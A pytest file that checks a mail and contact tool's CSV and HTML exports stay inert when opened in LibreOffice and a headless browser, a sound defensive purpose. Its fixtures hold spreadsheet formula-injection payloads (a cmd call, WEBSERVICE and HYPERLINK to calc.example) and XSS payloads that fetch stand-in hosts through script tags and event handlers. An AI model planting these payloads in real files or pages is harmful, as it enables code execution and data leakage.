"""Exports of hostile records, opened by the programs people open them with, do nothing."""

from __future__ import annotations

import http.server
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.support.desk import Answer, Desk
from tests.support.letters import OWNER, START, Letter, write_mbox

CALC = shutil.which("soffice") or shutil.which("libreoffice") or ""
BROWSER = shutil.which("chromium") or shutil.which("chromium-browser") or ""
needs_calc = pytest.mark.skipif(not CALC, reason="no LibreOffice here (apt: libreoffice-calc)")
needs_browser = pytest.mark.skipif(not BROWSER, reason="no Chromium here (apt: chromium)")

NOTES = (
    '=HYPERLINK("http://calc.example/"&A1,"click")',
    '+cmd|"/C calc"!A0',
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r\n=1+2",
    "\u202e=1+3",
    "\u00a0 =1+4",
    'said "yes"\n=1+5',
    "milk; =1+6",
    'bread;"=1+7";tea',
    "tab\t=1+8",
    "'=1+9",
    '\';=WEBSERVICE("http://calc.example/")',
    "\uff1d1+10",
    "'t Hooft; 'quoted', as ever",
    "line\u2028separator",
)
ADDRESSES = ("=1+1@calc.example", "+cmd@calc.example", "-2@calc.example", "|dir@calc.example")


@pytest.fixture
def logged(desk: Desk, tmp_path: Path) -> Desk:
    """The owner met people with odd addresses, and wrote odd notes."""
    letters = [
        Letter(sender=address, message_id=f"{number}@calc.example")
        for number, address in enumerate(ADDRESSES)
    ]
    desk.takes_in(write_mbox(tmp_path / "mail" / "Inbox.mbox", letters))
    for number, note in enumerate(NOTES):
        who = ADDRESSES[number % len(ADDRESSES)]
        assert _logs(desk, who, note).code == 0
    return desk


def _logs(desk: Desk, who: str, note: str) -> Answer:
    return desk.run("log", "met", f"--contact={who}", "--on", "2025-04-01", f"--note={note}")


def cells_of(table: Path, separators: str) -> list[str]:
    """Opens a table in LibreOffice; returns its cells as it writes them.

    Args:
        table: the table.
        separators: the characters that separate cells, as numbers with a slash between.
    """
    profile = (table.parent / "profile").as_uri()
    subprocess.run(
        [
            CALC,
            "--headless",
            f"-env:UserInstallation={profile}",
            f"--infilter=CSV:{separators},34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
            str(table.parent),
            str(table),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    page = table.with_suffix(".fods").read_text(encoding="utf-8")
    return re.findall(r"<table:table-cell[^>]*", page)


@needs_calc
def test_the_instrument_sees_a_formula_that_runs(tmp_path: Path) -> None:
    (tmp_path / "armed.csv").write_text("contact,note\nx@y.example,=1+1\n")
    assert any("table:formula" in cell for cell in cells_of(tmp_path / "armed.csv", "44"))


@needs_calc
@pytest.mark.parametrize("separators", ["44", "59", "44/59/9"])
def test_no_formula_of_a_table_runs_whatever_separates_its_cells(
    logged: Desk, tmp_path: Path, separators: str
) -> None:
    table = tmp_path / "logged.csv"
    table.write_text(logged.run("logged", "--csv").out, encoding="utf-8", newline="")
    cells = cells_of(table, separators)
    assert len(cells) > len(NOTES)
    assert not any("formula" in cell for cell in cells)


def test_hostile_notes_come_back_as_they_were(logged: Desk, tmp_path: Path) -> None:
    table = tmp_path / "logged.csv"
    table.write_text(logged.run("logged", "--csv").out, encoding="utf-8", newline="")
    before = [(one["address"], one["note"]) for one in logged.asks("logged")]
    for _ in NOTES:
        logged.run("undo")
    assert logged.asks("logged") == []
    assert logged.run("logged", "--read", table).code == 0
    after = [(one["address"], one["note"]) for one in logged.asks("logged")]
    assert [(who, note.replace("\r\n", "\n")) for who, note in before] == after


class Seen(NamedTuple):
    """What a browser made of a page: its document, and whom it asked."""

    document: str
    asked: list[str]


@pytest.fixture
def proxy() -> Iterator[tuple[int, list[str]]]:
    """The only way out a browser is given; it answers nothing and notes who was asked for."""
    asked: list[str] = []

    class Closed(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_CONNECT = do_POST = do_HEAD = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Closed)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server.server_port, asked
    server.shutdown()
    thread.join()
    server.server_close()


def opened(page: Path, proxy: tuple[int, list[str]]) -> Seen:
    """Opens a page in a browser; what the browser itself asks of its maker is left out."""
    port, asked = proxy
    done = subprocess.run(
        [
            BROWSER,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            f"--proxy-server=127.0.0.1:{port}",
            "--proxy-bypass-list=<-loopback>",
            f"--user-data-dir={page.parent / 'browser'}",
            "--virtual-time-budget=2000",
            "--dump-dom",
            page.as_uri(),
        ],
        check=True,
        capture_output=True,
        text=True,
        timeout=120,
    )
    return Seen(done.stdout, [one for one in asked if ".example" in one or "127.0.0.1" in one])


WILD = "document.title='it ran';fetch('http://script.example/')"
PAGE_LETTERS = (
    Letter(
        sender=f'"</title><script>{WILD}</script>" <wild@page.example>',
        subject=f'<img src=http://image.example/ onerror="{WILD}">',
        text="<iframe src='http://frame.example/'></iframe>\n"
        f"</pre><svg onload=\"{WILD}\"><style>@import 'http://style.example/';</style>\n"
        "<meta http-equiv=refresh content='0;url=http://refresh.example/'>\n"
        "<link rel=prefetch href=http://link.example/>{{7*7}} %(x)s\n",
        message_id=f"<script>{WILD}</script>@page.example",
    ),
    Letter(
        sender=OWNER,
        to=f'"\u202e<b onmouseover=alert(1)>" <"><script>{WILD}</script>@page.example>, '
        "wild@page.example",
        subject=f"]]></title><base href='http://base.example/'><script>{WILD}</script>",
        text="Could you send me the plan?\n",
        at=START.replace(hour=12),
        message_id="two@page.example",
    ),
)


@needs_browser
def test_the_instrument_sees_a_script_that_runs_and_a_request_that_leaves(
    tmp_path: Path, proxy: tuple[int, list[str]]
) -> None:
    page = tmp_path / "armed.html"
    page.write_text(f"<title>x</title><img src=http://image.example/><script>{WILD}</script>")
    seen = opened(page, proxy)
    assert "<title>it ran</title>" in seen.document
    assert {"http://image.example/", "http://script.example/"} <= set(seen.asked)


@needs_browser
def test_a_page_of_hostile_records_runs_nothing_and_asks_nobody(
    desk: Desk, tmp_path: Path, proxy: tuple[int, list[str]]
) -> None:
    folder = tmp_path / "mail" / "<img src=http://folder.example/>"
    desk.run("me", "kim@adler.example")
    desk.takes_in(write_mbox(folder / "Sent.mbox", PAGE_LETTERS))
    desk.run("log", "met", "wild@page.example", "--on", "2025-04-01", f"--note=<script>{WILD}")
    page = tmp_path / "wild.html"
    assert desk.run("whole", "wild@page.example", "--html", page).code == 0
    seen = opened(page, proxy)
    assert "image.example" in seen.document
    assert "folder.example" in seen.document
    assert "it ran</title>" not in seen.document
    assert not re.search(r"<(script|img|iframe|base|link|b)\b", seen.document)
    assert set(re.findall(r"<svg (\w+)", seen.document)) <= {"viewBox", "class"}  # the page's own
    assert seen.asked == []
